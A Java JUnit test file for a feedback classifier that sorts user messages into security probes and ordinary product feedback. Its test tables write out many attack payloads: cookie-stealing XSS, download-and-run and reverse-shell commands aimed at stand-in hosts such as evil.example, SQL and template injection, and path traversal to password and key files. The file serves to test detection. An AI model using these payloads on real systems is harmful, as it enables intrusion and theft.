package com.opsledger.command.feedback;

import com.opsledger.events.feedback.Classification;
import com.opsledger.events.feedback.SecurityClass;
import com.opsledger.events.feedback.Severity;
import com.opsledger.events.feedback.SignalCategory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.stream.Stream;

import static com.opsledger.events.feedback.SecurityClass.COMMAND;
import static com.opsledger.events.feedback.SecurityClass.FUZZ;
import static com.opsledger.events.feedback.SecurityClass.PATH;
import static com.opsledger.events.feedback.SecurityClass.SCRIPT;
import static com.opsledger.events.feedback.SecurityClass.SQL;
import static com.opsledger.events.feedback.SecurityClass.TEMPLATE;
import static com.opsledger.events.feedback.Severity.CRITICAL;
import static com.opsledger.events.feedback.Severity.HIGH;
import static com.opsledger.events.feedback.Severity.LOW;
import static com.opsledger.events.feedback.Severity.MEDIUM;
import static com.opsledger.events.feedback.SignalCategory.ACTIONABLE;
import static com.opsledger.events.feedback.SignalCategory.PRODUCT_SIGNAL;
import static com.opsledger.events.feedback.SignalCategory.SECURITY_PROBE;
import static com.opsledger.events.feedback.SignalCategory.SHORT_ACTIONABLE;
import static org.assertj.core.api.Assertions.assertThat;

class FeedbackClassifierTest {

    static Stream<Arguments> table() {
        return Stream.of(
                // Script (XSS): classic, then disguised.
                probe("<script>alert(1)</script>", HIGH, SCRIPT),
                probe("<img src=x onerror=alert(document.cookie)>", HIGH, SCRIPT),
                probe("<svg/onload=alert('xss')>", HIGH, SCRIPT),
                probe("\"><script>fetch('https://evil.example/'+document.cookie)</script>", HIGH, SCRIPT),
                probe("javascript:alert(1)", HIGH, SCRIPT),
                probe("<a href=\"jav&#x09;ascript:alert(1)\">click me</a>", HIGH, SCRIPT),
                probe("%3Cscript%3Ealert(1)%3C%2Fscript%3E", HIGH, SCRIPT),
                probe("&lt;script&gt;alert(1)&lt;/script&gt;", HIGH, SCRIPT),
                probe("<ScRiPt>prompt(1)</sCrIpT>", HIGH, SCRIPT),
                probe("%253Cscript%253Ealert(1)%253C%252Fscript%253E", HIGH, SCRIPT),
                probe("<iframe src=\"javascript:alert(1)\"></iframe>", HIGH, SCRIPT),
                probe("<body onload=alert(1)>", HIGH, SCRIPT),
                probe("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", HIGH, SCRIPT),
                probe("\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", HIGH, SCRIPT),
                probe("<details open ontoggle=alert(1)>", HIGH, SCRIPT),
                probe("<scr\u200Bipt>alert(1)</scr\u200Bipt>", HIGH, SCRIPT),
                // Command injection.
                probe("; cat /etc/passwd", CRITICAL, COMMAND, PATH),
                probe("| whoami", CRITICAL, COMMAND),
                probe("$(id)", CRITICAL, COMMAND),
                probe("`id`", CRITICAL, COMMAND),
                probe("&& curl http://evil.example/x.sh | bash", CRITICAL, COMMAND),
                probe("127.0.0.1; ping -c 10 127.0.0.1", CRITICAL, COMMAND),
                probe("test%3B%20ls%20-la", CRITICAL, COMMAND),
                probe(";${IFS}cat${IFS}/etc/shadow", CRITICAL, COMMAND, PATH),
                probe("cmd.exe /c dir", CRITICAL, COMMAND),
                probe("powershell -enc SQBFAFgA", CRITICAL, COMMAND),
                probe("| nc -e /bin/sh 10.0.0.1 4444", CRITICAL, COMMAND),
                probe("; sleep 10 #", CRITICAL, COMMAND),
                probe("name=foo\t;\tuname -a", CRITICAL, COMMAND),
                // SQL injection.
                probe("' OR '1'='1", CRITICAL, SQL),
                probe("admin'--", CRITICAL, SQL),
                probe("1 UNION SELECT username, password FROM users", CRITICAL, SQL),
                probe("'; DROP TABLE users; --", CRITICAL, SQL),
                probe("1' AND SLEEP(5)#", CRITICAL, SQL),
                probe("' or 1=1 --", CRITICAL, SQL),
                probe("1%27%20OR%20%271%27%3D%271", CRITICAL, SQL),
                probe("UnIoN/**/SeLeCt/**/null,null--", CRITICAL, SQL),
                probe("'; WAITFOR DELAY '0:0:5'--", CRITICAL, SQL),
                probe("1 AND 1=1", CRITICAL, SQL),
                probe("' UNION ALL SELECT table_name FROM information_schema.tables--", CRITICAL, SQL),
                probe("\"; EXEC xp_cmdshell('dir'); --", CRITICAL, SQL),
                probe("1;SELECT pg_sleep(10)", CRITICAL, SQL),
                // Server-side template injection.
                probe("{{7*7}}", HIGH, TEMPLATE),
                probe("${7*7}", HIGH, TEMPLATE),
                probe("<%= 7*7 %>", HIGH, TEMPLATE),
                probe("{{ config.items() }}", HIGH, TEMPLATE),
                probe("{{''.__class__.__mro__[1].__subclasses__()}}", HIGH, TEMPLATE),
                probe("${jndi:ldap://evil.example/a}", HIGH, TEMPLATE),
                probe("#{7*7}", HIGH, TEMPLATE),
                probe("{% import os %}{{ os.popen('id').read() }}", HIGH, TEMPLATE),
                probe("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", HIGH, TEMPLATE),
                probe("%7B%7B7*7%7D%7D", HIGH, TEMPLATE),
                // Path traversal and file inclusion.
                probe("../../../../etc/passwd", HIGH, PATH),
                probe("..%2F..%2F..%2Fetc%2Fpasswd", HIGH, PATH),
                probe("....//....//....//etc/passwd", HIGH, PATH),
                probe("..\\..\\..\\windows\\win.ini", HIGH, PATH),
                probe("%252e%252e%252f%252e%252e%252fetc%252fshadow", HIGH, PATH),
                probe("file:///etc/passwd", HIGH, PATH),
                probe("php://filter/convert.base64-encode/resource=index.php", HIGH, PATH),
                probe("/proc/self/environ", HIGH, PATH),
                probe("C:\\Windows\\System32\\drivers\\etc\\hosts", HIGH, PATH),
                probe("..%c0%af..%c0%af..%c0%afetc/passwd", HIGH, PATH), // overlong UTF-8 slashes
                probe("report%00.pdf", MEDIUM, FUZZ), // an encoded NUL byte
                // Fuzz.
                probe("A".repeat(300), MEDIUM, FUZZ),
                probe("%s%s%s%s%s%n", MEDIUM, FUZZ),
                probe("%x %x %x %x", MEDIUM, FUZZ),
                probe("hello\u0000\u0001\u0002world", MEDIUM, FUZZ),
                probe("!@#$^&*()_+{}|:\"<>?~!@#$^&*()_+", MEDIUM, FUZZ),
                probe("QmFzZTY0".repeat(60), MEDIUM, FUZZ),
                probe("z\u0336\u0321\u031Ba\u0337\u0321\u035Dl\u0334\u0328\u0360g\u0336\u0322\u035Do\u0335\u0327\u0358 "
                        + "t\u0336\u0321\u031Be\u0337\u0321\u035Dx\u0334\u0328\u0360t\u0336\u0322\u035D", MEDIUM, FUZZ),
                // Several families at once.
                probe("<script>alert(1)</script>' OR 1=1--", CRITICAL, SCRIPT, SQL),
                probe("{{7*7}} ../../../../etc/passwd ; cat /etc/passwd", CRITICAL, COMMAND, TEMPLATE, PATH),
                probe("<img src=x onerror=alert(1)>{{7*7}}../../etc/hosts", CRITICAL, SCRIPT, TEMPLATE, PATH),
                // Ordinary feedback, some of it mentioning the words the patterns are made of.
                ordinary("Please add a way to select multiple rows in the table", PRODUCT_SIGNAL, LOW),
                ordinary("The script editor is great, love the syntax highlighting!", PRODUCT_SIGNAL, LOW),
                ordinary("I moved my files to ../archive and now the sync tool can't find them", ACTIONABLE, MEDIUM),
                ordinary("SELECT * FROM reports takes forever in the SQL console, can you make it faster?",
                        ACTIONABLE, MEDIUM),
                ordinary("Export to CSV is broken", SHORT_ACTIONABLE, LOW),
                ordinary("Login fails with error 500", SHORT_ACTIONABLE, MEDIUM),
                ordinary("I was double charged for my subscription this month and the invoice page shows an error "
                        + "when I open it", ACTIONABLE, HIGH),
                ordinary("Great job on the new dashboard \uD83C\uDF89\uD83C\uDF89\uD83C\uDF89", PRODUCT_SIGNAL, LOW),
                ordinary("Le tableau de bord est très lent depuis la mise à jour", PRODUCT_SIGNAL, LOW),
                ordinary("ダッシュボードが遅いです。改善をお願いします。", PRODUCT_SIGNAL, LOW),
                ordinary("ok", PRODUCT_SIGNAL, LOW),
                ordinary("\uD83D\uDC4D", PRODUCT_SIGNAL, LOW),
                ordinary("The agent workflow builder is really useful. ".repeat(200), PRODUCT_SIGNAL, LOW),
                ordinary("Can you support scripting in the agent? e.g. running a python script on schedule",
                        PRODUCT_SIGNAL, LOW),
                ordinary("My ssh command `ls -la` output is cut off in the terminal view", PRODUCT_SIGNAL, LOW),
                ordinary("$(document).ready never fires on the embed page", PRODUCT_SIGNAL, LOW),
                ordinary("Price is $5 & cat toys are missing from the store", ACTIONABLE, MEDIUM),
                ordinary("What does 1=1 mean in the docs example?", PRODUCT_SIGNAL, LOW),
                ordinary("Drop table support in the schema designer would be nice", PRODUCT_SIGNAL, LOW),
                ordinary("The {{name}} placeholder is not replaced in email templates", PRODUCT_SIGNAL, LOW),
                ordinary("100% of my runs failed today", SHORT_ACTIONABLE, LOW),
                ordinary("I'm seeing 50% CPU usage and 20% disk, is that normal?", PRODUCT_SIGNAL, LOW),
                ordinary("Where can I find the /etc config for the agent?", PRODUCT_SIGNAL, LOW),
                ordinary("SQL injection protection: does your API sanitize inputs?", PRODUCT_SIGNAL, LOW),
                ordinary("<b>Bold</b> text in comments renders as raw HTML tags", PRODUCT_SIGNAL, LOW),
                ordinary("app crashed", SHORT_ACTIONABLE, LOW),
                ordinary("Everything is down for everyone in our org, production agents fail with timeout",
                        ACTIONABLE, HIGH),
                ordinary("Steps to reproduce: open the billing page, pick the yearly plan, press save. Expected the "
                        .concat("plan to change; instead the page shows an error and nothing happens. ".repeat(40)),
                        ACTIONABLE, HIGH),
                ordinary("Tom & Jerry; the cat wins again in the demo video", PRODUCT_SIGNAL, LOW),
                ordinary("It's 'or' not 'and' in the filter label", PRODUCT_SIGNAL, LOW),
                ordinary("We use {{ }} for variables, and the preview shows them fine", PRODUCT_SIGNAL, LOW),
                ordinary("Naïve café résumé — the accents show up fine now, thanks!", PRODUCT_SIGNAL, LOW),
                ordinary("Fehler beim Speichern: the save button throws an exception on Firefox", ACTIONABLE, MEDIUM));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("table")
    void classifies(Case c) {
        Classification result = FeedbackClassifier.classify(c.message()).classification();

        assertThat(result.securityClasses()).as("security classes").containsExactlyElementsOf(c.classes());
        assertThat(result.signal()).as("signal").isEqualTo(c.signal());
        assertThat(result.severity()).as("severity").isEqualTo(c.severity());
    }

    /** The shapes the issue that rewrote the classifier named as missed, or as flagged in real feedback. */
    static Stream<Arguments> namedShapes() {
        return Stream.of(
                shape("' onfocus=alert(1) autofocus '", SCRIPT),
                shape("<meta http-equiv=refresh content=\"0;url=https://phish.example/\">", SCRIPT),
                shape("<link rel=import href=//evil.example/x.html>", SCRIPT),
                shape("<embed src=//evil.example/x.swf>", SCRIPT),
                shape("<style>@import 'javascript:alert(1)';</style>", SCRIPT),
                shape("<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">", SCRIPT),
                shape("<form><button formaction=javascript:alert(1)>go</button></form>", SCRIPT),
                shape("window[\"alert\"](1)", SCRIPT),
                shape("alert`1`", SCRIPT),
                shape("setInterval('alert(1)', 100)", SCRIPT),
                shape("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]", SCRIPT),
                shape("%u003Cscript%u003Ealert(1)%u003C/script%u003E", SCRIPT),
                shape("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", SCRIPT),
                shape("<a href=\"java&Tab;script:alert(1)\">x</a>", SCRIPT),
                shape("1 AND BENCHMARK(5000000,MD5(1))", SQL),
                shape("1) AND pg_sleep(5)--", SQL),
                shape("1 AND SLEEP(5)", SQL),
                shape("' GROUP BY id HAVING 1=1 --", SQL),
                shape("EXECUTE IMMEDIATE 'DROP TABLE audit'", SQL),
                shape("DECLARE @v VARCHAR(8000);SET @v='whoami';EXEC(@v)", SQL),
                shape("' AND '1'::jsonb IS NOT NULL--", SQL),
                shape("'{\"a\":1}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb", SQL),
                shape("username[$ne]=x&password[$ne]=x", SQL),
                shape("{\"$where\": \"sleep(5000)\"}", SQL),
                shape("1 union/*!50000select*/ 1,2", SQL),
                shape("' OR 2>1 --", SQL),
                shape("time ifconfig", COMMAND),
                shape("; lastlog", COMMAND),
                shape("certutil -urlcache -split -f http://x.example/x.exe x.exe", COMMAND),
                shape("Invoke-WebRequest -Uri http://x.example/x -OutFile x.exe", COMMAND),
                shape("FOR /F \"tokens=*\" %i IN ('whoami') DO echo %i", COMMAND),
                shape("IF EXIST C:\\Windows\\System32 (echo found)", COMMAND, PATH),
                shape("w'h'o'am'i", COMMAND),
                shape("/usr/bin/[u]name -a", COMMAND),
                shape("{id,}", COMMAND),
                shape(">(id)", COMMAND),
                shape("cat${IFS}/etc/passwd", COMMAND, PATH),
                shape("c$@at /etc/passwd", COMMAND, PATH),
                shape("/root/.ssh/id_rsa", PATH),
                shape("/proc/self/environ", PATH),
                shape(".env", PATH),
                shape("/.git/config", PATH),
                shape("../web.config", PATH),
                shape("wp-config.php", PATH),
                shape("..;/WEB-INF/web.xml", PATH),
                shape("..\\..\\..\\windows\\win.ini", PATH),
                shape("0x2e0x2e/0x2e0x2e/etc/passwd", PATH),
                shape("..%c0%af..%c0%afetc/passwd", PATH),
                shape("<%= File.open('/etc/passwd').read %>", TEMPLATE, PATH),
                shape("#{session.setAttribute(\"x\",\"y\")}", TEMPLATE),
                shape("{% import os %}{{ os.popen('id').read() }}", TEMPLATE),
                shape("@(System.Diagnostics.Process.Start(\"calc\"))", TEMPLATE),
                shape("{$smarty.version}", TEMPLATE),
                shape("{{['id']|filter('system')}}", TEMPLATE),
                shape("{{ request|attr('application') }}", TEMPLATE),
                shape("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", TEMPLATE),
                shape("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", TEMPLATE),
                shape("${T(java.lang.Runtime).getRuntime().exec('id')}", TEMPLATE),
                shape("{{ ().__class__.__bases__[0].__subclasses__() }}", TEMPLATE),
                // Real feedback: quoted code, pasted terminals and drawings are not probes.
                shape("print('done')  # prints before the request finishes, the docs example is wrong"),
                shape("When I write 'TODO' -- followed by a note, the editor converts -- into an em dash."),
                shape("In the markdown editor, typing \"### Heading\" after a quote like 'Intro' ### breaks the line."),
                shape("The import fails: import config from '../../config'; Module not found: Can't resolve it"),
                shape("My environment:\nSHELL=/bin/zsh\nTERM=xterm-256color\nHOME=/Users/dana"),
                shape("I run docker run --rm -u $(id -u):$(id -g) -v $PWD:/work image and it fails with permission denied."),
                shape("Bug: <script type=\"module\"> tags are not executed in the embed preview"),
                shape("Progress: [==================================================>    ] 91% and then it stops"),
                shape("Export is stuck at ████████████████████████████████████████████████████████░░ 93%"),
                shape("Steps:\n------------------------------------------------------------------\nSave fails."),
                shape("This link fails: https://app.example.com/reports?" + "columns=id,name,email&".repeat(30)));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("namedShapes")
    void findsTheNamedShapesAndLeavesRealFeedbackAlone(String message, List<SecurityClass> classes) {
        Classification result = FeedbackClassifier.classify(message).classification();

        assertThat(result.securityClasses()).as("security classes").containsExactlyElementsOf(classes);
        assertThat(result.findings()).as("each class explained")
                .extracting(f -> f.securityClass()).containsAll(classes);
        assertThat(result.findings()).as("findings name the rule and what it matched").allSatisfy(f -> {
            assertThat(f.rule()).startsWith(f.securityClass().name().toLowerCase() + ".");
            assertThat(f.excerpt()).isNotBlank().hasSizeLessThanOrEqualTo(80);
        });
    }

    @Test
    void theTableHoldsAtLeastEightyRealisticInputs() {
        assertThat(table().count()).isGreaterThanOrEqualTo(80);
    }

    @Test
    void repeatedProbesWithOtherNumbersShareAFingerprint() {
        assertThat(fingerprint("<script>alert(1)</script>")).isEqualTo(fingerprint("<SCRIPT>alert(42)</SCRIPT>"))
                .isEqualTo(fingerprint("%3Cscript%3Ealert(7)%3C%2Fscript%3E"));
        assertThat(fingerprint("<script>alert(1)</script>")).isNotEqualTo(fingerprint("' OR '1'='1"));
    }

    @Test
    void duplicateReportsShareAFingerprintAndDistinctReportsDoNot() {
        assertThat(fingerprint("Export to CSV is broken")).isEqualTo(fingerprint("export to csv is  broken!!"));
        assertThat(fingerprint("Export to CSV is broken")).isNotEqualTo(fingerprint("Export to PDF is broken"));
    }

    @Test
    void normalizationUndoesLayeredEncodings() {
        assertThat(FeedbackClassifier.normalize("%253Cscript%253E")).isEqualTo("<script>");
        assertThat(FeedbackClassifier.normalize("&#x3c;IMG&#62;")).isEqualTo("<img>");
        assertThat(FeedbackClassifier.normalize("caf%C3%A9  \t UNION/**/SELECT")).isEqualTo("café union/**/select");
        assertThat(FeedbackClassifier.normalize("%u003Cimg%uFF1E &Tab;+ADw-b+AD4-")).isEqualTo("<img> <b>");
    }

    private static String fingerprint(String message) {
        return FeedbackClassifier.classify(message).fingerprint();
    }

    record Case(String message, List<SecurityClass> classes, SignalCategory signal, Severity severity) {
        @Override
        public String toString() {
            String shown = message.length() > 60 ? message.substring(0, 60) + "…" : message;
            return shown.replaceAll("\\p{Cntrl}", "?");
        }
    }

    private static Arguments probe(String message, Severity severity, SecurityClass... classes) {
        return Arguments.of(new Case(message, List.of(classes), SECURITY_PROBE, severity));
    }

    private static Arguments shape(String message, SecurityClass... classes) {
        return Arguments.of(message, List.of(classes));
    }

    private static Arguments ordinary(String message, SignalCategory signal, Severity severity) {
        return Arguments.of(new Case(message, List.of(), signal, severity));
    }
}
